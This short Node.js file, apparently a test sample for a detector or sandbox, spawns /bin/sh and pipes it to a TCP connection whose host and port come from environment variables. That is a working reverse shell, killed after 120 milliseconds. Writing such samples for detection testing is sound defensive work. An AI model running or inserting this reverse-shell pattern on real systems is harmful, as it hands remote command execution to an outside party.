// The shell is there before the connection is.
// flagged: dash
import { spawn } from "node:child_process";
import { connect } from "node:net";

const shell = spawn("/bin/sh", []);
const connection = connect(Number(process.env.RG_TCP_PORT), process.env.RG_TCP_HOST, () => {
  connection.pipe(shell.stdin);
  shell.stdout.pipe(connection);
});
setTimeout(() => {
  shell.kill("SIGKILL");
  connection.destroy();
}, 120);
